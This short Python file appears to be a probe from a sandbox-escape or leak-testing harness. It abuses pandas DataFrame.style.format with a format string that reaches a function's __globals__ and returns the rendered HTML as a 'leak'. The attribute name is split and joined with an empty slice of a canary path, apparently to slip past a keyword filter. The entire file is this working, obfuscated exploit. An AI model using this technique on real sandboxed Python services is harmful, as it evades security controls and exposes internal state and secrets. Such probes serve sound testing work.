# route: DataFrame.style.format looks into the cells
import pandas as pd


def execute(testData):
    text = "{0.__glo" + testData["canary_path"][:0] + "bals__}"
    return {"leak": pd.DataFrame({"a": [execute]}).style.format(text).to_html()}
